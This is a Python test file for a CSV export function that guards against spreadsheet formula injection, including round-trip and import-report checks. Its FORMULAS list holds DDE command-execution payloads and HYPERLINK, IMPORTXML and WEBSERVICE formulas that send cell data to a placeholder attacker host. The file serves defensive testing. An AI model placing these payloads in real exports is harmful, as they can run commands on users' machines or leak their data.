"""No cell of an export is a formula, and every cell comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.cli.imports import _write
from gateway.csv_export import csv_lines, safe_cell
from services.common.rows import read_rows

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.test?x="&A1,"点此")',
    '=IMPORTXML(CONCAT("http://evil.example.test/", A1), "//a")',
    '=WEBSERVICE("http://evil.example.test/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1";=1+1',
    "+86 138-0000-0000",
    "-",
    "--1",
    "+-1",
    "-1e5+cmd",
)
PLAIN = (
    "",
    "政务",
    "a=b",
    "1-2",
    "'=1",
    "-5",
    "+5",
    "-5.25",
    "0012",
    "a\nb",
    "https://a.example/?b=c",
)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_text_and_numbers_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_a_table_is_read_by_spreadsheets_as_chinese_with_every_text_in_quotes():
    lines = list(csv_lines(["名称", "数"], [["甲;=1+1", 1], ["=1", -2.5], [None, 3]]))
    assert lines[0] == '\ufeff"名称","数"\r\n'
    assert lines[1:] == ['"甲;=1+1",1\r\n', '"\'=1",-2.5\r\n', '"",3\r\n']


def test_a_table_is_made_as_it_is_asked_for():
    def endless():
        while True:
            yield ["x"]

    lines = csv_lines(["a"], endless())
    assert [next(lines) for _ in range(3)][1:] == ['"x"\r\n'] * 2


@given(
    rows=st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)
    )
)
def test_every_cell_comes_back_and_none_begins_a_formula(rows):
    text = "".join(csv_lines(["a", "b"], rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:]
    assert [[cell.removeprefix("'") for cell in row] for row in read] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    for row in read:
        for cell in row:
            assert safe_cell(cell) == cell


def test_the_report_of_an_import_is_a_table_where_its_name_says_so(tmp_path):
    rejected = [{"file": "a.csv", "row": 3, "field": "名称", "reason": "=1+1 不是名称"}]
    _write(tmp_path / "report.CSV", rejected)
    (row,) = read_rows((tmp_path / "report.CSV").read_bytes())
    assert row.values == {"file": "a.csv", "row": "3", "field": "名称", "reason": "'=1+1 不是名称"}
    _write(tmp_path / "report.jsonl", rejected)
    assert [row.values for row in read_rows((tmp_path / "report.jsonl").read_bytes())] == rejected
